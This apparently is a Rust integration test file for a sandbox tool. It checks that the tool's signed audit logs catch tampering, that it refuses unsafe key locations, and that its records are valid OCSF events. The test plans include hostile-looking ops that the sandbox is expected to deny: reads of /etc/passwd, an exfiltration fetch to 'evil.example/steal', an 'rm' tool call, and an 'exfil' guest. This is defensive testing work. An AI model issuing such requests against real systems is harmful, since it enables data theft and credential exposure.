//! The audit log's chain and seal through the command line: a signed
//! `exec` log verifies; an edited, a removed and a cut record are each
//! found at their line; a key a guest could read, or a record that
//! cannot be written, is refused before anything runs; a replayed run's
//! log is the recorded one's, seal and all.

use sbx_wasm_tests::{mount_caps, mount_tree, sbx_in, utf8};
use std::path::Path;

const PLAN: &str = r#"[
  {"op": "fs_read", "path": "/work/a.txt"},
  {"op": "fs_read", "path": "/etc/passwd"},
  {"op": "fs_write", "path": "/work/out/r.txt", "content": "done"},
  {"op": "fs_list", "path": "/work"}
]"#;

/// `exec --audit a.jsonl --audit-key KEY plan.json` in `dir`.
fn signed_exec(dir: &Path, key: &Path) -> std::process::Output {
    let args = [
        "exec",
        "--caps",
        "caps.toml",
        "--audit",
        "a.jsonl",
        "--audit-key",
    ];
    let mut all: Vec<&str> = args.to_vec();
    all.extend([key.to_str().unwrap(), "plan.json"]);
    sbx_in(dir, &all)
}

/// `audit verify FILE --key KEY`: its exit code and stdout.
fn verify(dir: &Path, file: &str, key: &str) -> (Option<i32>, String) {
    let out = sbx_in(dir, &["audit", "verify", file, "--key", key]);
    (out.status.code(), utf8(&out.stdout))
}

#[test]
fn a_signed_log_verifies_and_every_kind_of_damage_is_found_at_its_line() {
    let t = mount_tree(&[("data/a.txt", "hello"), ("caps.toml", &mount_caps(""))]);
    std::fs::write(t.path().join("plan.json"), PLAN).unwrap();
    let keys = tempfile::tempdir().unwrap();
    let key = keys.path().join("audit.key");
    let out = sbx_in(
        t.path(),
        &["audit", "keygen", "--out", key.to_str().unwrap()],
    );
    assert!(out.status.success(), "{}", utf8(&out.stderr));
    let public = utf8(&out.stdout).trim().to_string();
    assert!(public.starts_with("ed25519:"), "{public}");
    // The secret is its owner's alone, and keygen never overwrites.
    use std::os::unix::fs::PermissionsExt;
    let mode = std::fs::metadata(&key).unwrap().permissions().mode();
    assert_eq!(mode & 0o077, 0, "{mode:o}");
    let again = sbx_in(
        t.path(),
        &["audit", "keygen", "--out", key.to_str().unwrap()],
    );
    assert!(!again.status.success());

    let out = signed_exec(t.path(), &key);
    assert_eq!(out.status.code(), Some(0), "{}", utf8(&out.stderr));
    let (code, said) = verify(t.path(), "a.jsonl", &public);
    assert_eq!(code, Some(0), "{said}");
    assert!(
        said.contains("whole: 4 records, 1 seals, 1 signed by"),
        "{said}"
    );

    let text = std::fs::read_to_string(t.path().join("a.jsonl")).unwrap();
    let lines: Vec<&str> = text.lines().collect();
    assert_eq!(lines.len(), 5);
    let write = |name: &str, lines: &[&str]| {
        let body: String = lines.iter().map(|l| format!("{l}\n")).collect();
        std::fs::write(t.path().join(name), body).unwrap();
    };
    // Edited: the denied read made to look allowed.
    let edited = lines[1].replace("\"denied\"", "\"allowed\"");
    write(
        "edited.jsonl",
        &[lines[0], &edited, lines[2], lines[3], lines[4]],
    );
    let (code, said) = verify(t.path(), "edited.jsonl", &public);
    assert_eq!(code, Some(1));
    assert!(said.starts_with("line 2: line 2 was changed"), "{said}");
    // Removed: the write taken out.
    write("removed.jsonl", &[lines[0], lines[1], lines[3], lines[4]]);
    let (code, said) = verify(t.path(), "removed.jsonl", &public);
    assert_eq!(code, Some(1));
    assert!(said.starts_with("line 2: "), "{said}");
    assert!(said.contains("4 records sealed, 3 found"), "{said}");
    // Cut: the seal and the last record gone.
    write("cut.jsonl", &lines[..3]);
    let (code, said) = verify(t.path(), "cut.jsonl", &public);
    assert_eq!(code, Some(1));
    assert!(said.contains("line 3: no seal after line 3"), "{said}");
    // Another key's signature does not hold.
    let other = keys.path().join("other.key");
    let out = sbx_in(
        t.path(),
        &["audit", "keygen", "--out", other.to_str().unwrap()],
    );
    let (code, said) = verify(t.path(), "a.jsonl", utf8(&out.stdout).trim());
    assert_eq!(code, Some(1));
    assert!(said.contains("the signature does not hold"), "{said}");
}

#[test]
fn a_key_inside_a_mount_is_refused_before_anything_runs() {
    let t = mount_tree(&[("data/a.txt", "hello"), ("caps.toml", &mount_caps(""))]);
    std::fs::write(t.path().join("plan.json"), PLAN).unwrap();
    let key = t.path().join("data/audit.key");
    let out = sbx_in(
        t.path(),
        &["audit", "keygen", "--out", key.to_str().unwrap()],
    );
    assert!(out.status.success());
    let out = signed_exec(t.path(), &key);
    assert_eq!(out.status.code(), Some(2), "{}", utf8(&out.stderr));
    assert!(
        utf8(&out.stderr).contains("lies in mount /work"),
        "{}",
        utf8(&out.stderr)
    );
    assert!(!t.path().join("out/r.txt").exists(), "nothing ran");
    assert!(!t.path().join("a.jsonl").exists());
}

#[test]
fn a_record_that_cannot_be_written_is_refused_before_anything_runs() {
    let t = mount_tree(&[("data/a.txt", "hello"), ("caps.toml", &mount_caps(""))]);
    std::fs::write(t.path().join("plan.json"), PLAN).unwrap();
    std::fs::write(
        t.path().join("w.py"),
        "open('/work/out/r.txt', 'w').write('done')",
    )
    .unwrap();
    let python = sbx_wasm_tests::python_runner();
    let runner = python.to_str().unwrap();
    let script = [
        "run",
        "--caps",
        "caps.toml",
        "--no-stdin",
        "--python-runner",
        runner,
    ];
    // /proc takes no new file, even from root: the folder opens, the file
    // cannot be made. Each door refuses before the plan or script runs.
    for (mut args, refused) in [
        (
            vec![
                "exec",
                "--caps",
                "caps.toml",
                "--audit",
                "/proc/sbx-a.jsonl",
                "plan.json",
            ],
            2,
        ),
        (
            script
                .iter()
                .copied()
                .chain(["--audit", "/proc/sbx-a.jsonl", "w.py"])
                .collect(),
            125,
        ),
        (
            script
                .iter()
                .copied()
                .chain(["--report", "/proc/sbx-r.json", "w.py"])
                .collect(),
            125,
        ),
    ] {
        let out = sbx_in(t.path(), &args);
        assert_eq!(
            out.status.code(),
            Some(refused),
            "{args:?}: {}",
            utf8(&out.stderr)
        );
        assert!(
            utf8(&out.stderr).contains("cannot write /proc/sbx-"),
            "{}",
            utf8(&out.stderr)
        );
        assert!(!t.path().join("out/r.txt").exists(), "{args:?} ran");
        // The neighbour: the same run with its record in a folder it can
        // write runs, and the record is there.
        let at = args.iter().position(|a| a.starts_with("/proc/")).unwrap();
        args[at] = "rec.json";
        let out = sbx_in(t.path(), &args);
        assert!(out.status.success(), "{args:?}: {}", utf8(&out.stderr));
        assert!(t.path().join("out/r.txt").exists(), "{args:?} did not run");
        assert!(t.path().join("rec.json").is_file());
        std::fs::remove_file(t.path().join("out/r.txt")).unwrap();
        std::fs::remove_file(t.path().join("rec.json")).unwrap();
    }
}

/// The OCSF validator's python (a venv made once per requirements file).
fn ocsf_python() -> std::path::PathBuf {
    let requirements = sbx_wasm_tests::repo_root().join("tests/ocsf/requirements.txt");
    sbx_wasm_tests::cached_venv("ocsf-validate", &requirements, &[])
}

/// Validate OCSF event lines against the OCSF 1.8 schema with the
/// registry's validator: what it says, and whether every event passed.
pub(crate) fn ocsf_valid(lines: &Path) -> (bool, String) {
    let script = sbx_wasm_tests::repo_root().join("tests/ocsf/validate.py");
    let out = std::process::Command::new(ocsf_python())
        .arg(script)
        .arg(lines)
        .output()
        .unwrap();
    (
        out.status.success(),
        format!("{}{}", utf8(&out.stdout), utf8(&out.stderr)),
    )
}

/// Every kind of op a plan can make, allowed and refused, ending in a
/// hard halt.
const EVERY_OP: &str = r#"[
  {"op": "fs_read", "path": "/work/a.txt"},
  {"op": "fs_list", "path": "/work"},
  {"op": "fs_stat", "path": "/work/a.txt"},
  {"op": "fs_mkdir", "path": "/work/out/d"},
  {"op": "fs_write", "path": "/work/out/d/r.txt", "content": "x"},
  {"op": "fs_remove", "path": "/work/out/d/r.txt"},
  {"op": "fs_read", "path": "/etc/passwd"},
  {"op": "net_fetch", "url": "SERVER/status"},
  {"op": "net_fetch", "url": "http://evil.example/steal?d=1"},
  {"op": "tool_call", "name": "word_count", "input": "a b c"},
  {"op": "tool_call", "name": "rm", "input": ""},
  {"op": "kv_put", "key": "k", "value": "v"},
  {"op": "kv_get", "key": "k"},
  {"op": "kv_list", "prefix": ""},
  {"op": "kv_delete", "key": "k"},
  {"op": "launch_missiles"},
  {"op": "fs_read", "path": "/work/a.txt"}
]"#;

#[test]
fn every_kind_of_record_is_valid_ocsf_live_and_exported() {
    let server = sbx_wasm_tests::LoopbackServer::start();
    let caps = mount_caps(&format!(
        "[net]\nallow = [\"{}\"]\n[tools]\nallow = [\"word_count\"]\n\
         [tools.command.word_count]\nargv = [\"wc\", \"-w\"]\n[kv]\n\
         [budget]\nmax_ops = 16\n",
        server.origin()
    ));
    let t = mount_tree(&[("data/a.txt", "hello"), ("caps.toml", &caps)]);
    let plan = EVERY_OP.replace("SERVER", &server.origin());
    std::fs::write(t.path().join("plan.json"), plan).unwrap();
    let exec = |args: &[&str]| {
        let mut all = vec!["exec", "--caps", "caps.toml", "--report", "r.json"];
        all.extend_from_slice(args);
        all.push("plan.json");
        let out = sbx_in(t.path(), &all);
        assert_eq!(out.status.code(), Some(3), "{}", utf8(&out.stderr));
    };
    // Written live as OCSF, sealed: every event valid, the log whole.
    exec(&["--audit", "live.jsonl", "--audit-format", "ocsf"]);
    let (ok, said) = ocsf_valid(&t.path().join("live.jsonl"));
    assert!(ok, "{said}");
    assert!(
        said.contains(r#"classes {"1001": 8, "2004": 1, "4002": 2, "6002": 2, "6003": 7}"#),
        "{said}"
    );
    let out = sbx_in(t.path(), &["audit", "verify", "live.jsonl"]);
    assert!(out.status.success(), "{}", utf8(&out.stdout));
    // The project's records, exported afterwards: the same events.
    exec(&["--audit", "a.jsonl"]);
    let out = sbx_in(
        t.path(),
        &[
            "audit",
            "export",
            "a.jsonl",
            "--report",
            "r.json",
            "-o",
            "exported.jsonl",
        ],
    );
    assert!(out.status.success(), "{}", utf8(&out.stderr));
    let (ok, exported) = ocsf_valid(&t.path().join("exported.jsonl"));
    assert!(ok, "{exported}");
    assert!(exported.contains(r#""1001": 8, "2004": 1"#), "{exported}");
    // What a SIEM asks first: the refused fetch, blocked, with its rule-less
    // reason and the violation's name.
    let text = std::fs::read_to_string(t.path().join("exported.jsonl")).unwrap();
    let blocked: Vec<serde_json::Value> = text
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .filter(|e: &serde_json::Value| e["class_uid"] == 4002 && e["disposition_id"] == 2)
        .collect();
    assert_eq!(blocked.len(), 1);
    assert_eq!(blocked[0]["unmapped"]["sbx"]["violation"], "egress_denied");
    assert_eq!(
        blocked[0]["http_request"]["url"]["hostname"],
        "evil.example"
    );
}

#[test]
fn a_guests_refused_stdout_is_valid_ocsf() {
    // A wasm guest whose labelled read may not reach stdout: the refused
    // write is an event too.
    let caps = "[fs]\nread = [{ host = \"data\", guest = \"/work\", label = \"secret\" }]\n\
                write = [{ host = \"out\", guest = \"/work/out\" }]\n\
                [flow.allow]\nsecret = [\"/work/out\"]\n";
    let t = mount_tree(&[("data/a.txt", "hello"), ("caps.toml", caps)]);
    let out = std::process::Command::new(sbx_wasm_tests::sbx_bin())
        .current_dir(t.path())
        .env("SBX_WASM_CACHE_DIR", t.path().join("cache"))
        .args([
            "run",
            "--caps",
            "caps.toml",
            "--audit",
            "g.jsonl",
            "--audit-format",
            "ocsf",
        ])
        .arg(sbx_wasm_tests::guest("exfil"))
        .args(["--", "read:/work/a.txt", "print"])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(0), "{}", utf8(&out.stderr));
    let (ok, said) = ocsf_valid(&t.path().join("g.jsonl"));
    assert!(ok, "{said}");
    let text = std::fs::read_to_string(t.path().join("g.jsonl")).unwrap();
    assert!(text.contains(r#""operation":"stdout stdout""#), "{text}");
}
